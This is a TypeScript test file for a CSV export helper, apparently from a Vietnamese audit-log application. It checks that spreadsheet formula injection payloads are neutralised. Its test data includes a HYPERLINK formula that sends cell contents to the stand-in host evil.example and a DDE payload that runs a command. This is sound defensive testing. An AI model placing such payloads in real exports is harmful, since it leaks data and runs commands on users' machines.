import { describe, expect, it } from 'vitest';
import { AUDIT_COLUMNS, neutralizeCsvText } from '../../src/lib/domain/csv.ts';
import { toCsv } from '../../src/lib/server/csv.ts';

/** Payloads that spreadsheets run as formulas (OWASP CSV injection). */
const FORMULAS = [
	'=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
	'=1+1',
	'+1+1',
	'-1+1',
	'-2-3',
	'@SUM(A1:A9)',
	"=cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'-',
	'+',
	'@'
];

describe('neutralizeCsvText', () => {
	it.each(FORMULAS)('prefixes %j with a quote', (text) => {
		expect(neutralizeCsvText(text)).toBe(`'${text}`);
	});

	it.each(['Trần Thị Hoa', 'kim-ma', '2021-09-02T11:00:00.000Z', '{"f0Active":41}', '', ' =1', "'already"])('leaves %j alone', (text) => {
		expect(neutralizeCsvText(text)).toBe(text);
	});

	it('a text cell that is exactly a plain number stays as it is (data, not a formula)', () => {
		for (const n of ['-2', '+3', '-0.5', '12']) expect(neutralizeCsvText(n)).toBe(n);
		expect(neutralizeCsvText('-2e3')).toBe("'-2e3");
	});
});

describe('toCsv (every export)', () => {
	it('neutralises text cells, keeps numbers (negative ones too) and quotes as CSV needs', () => {
		const csv = toCsv([['=1+1', -2, 'Kim Mã, Ba Đình', '@x', 0, null]], ['A', 'B']);
		expect(csv).toBe('A,B\n\'=1+1,-2,"Kim Mã, Ba Đình",\'@x,0,\n');
	});

	it('a quote inside a neutralised cell is still escaped', () => {
		expect(toCsv([['=HYPERLINK("x")']])).toBe('"\'=HYPERLINK(""x"")"\n');
	});
});

describe('AUDIT_COLUMNS', () => {
	it('are Vietnamese with diacritics, one per audit field', () => {
		expect(AUDIT_COLUMNS.map((c) => c.vi)).toEqual([
			'Mã bản ghi',
			'Thời điểm (UTC)',
			'Thời điểm',
			'Loại người thực hiện',
			'Người thực hiện',
			'Hành động',
			'Đối tượng',
			'Mã đối tượng',
			'Phường',
			'Trước',
			'Sau'
		]);
	});
});
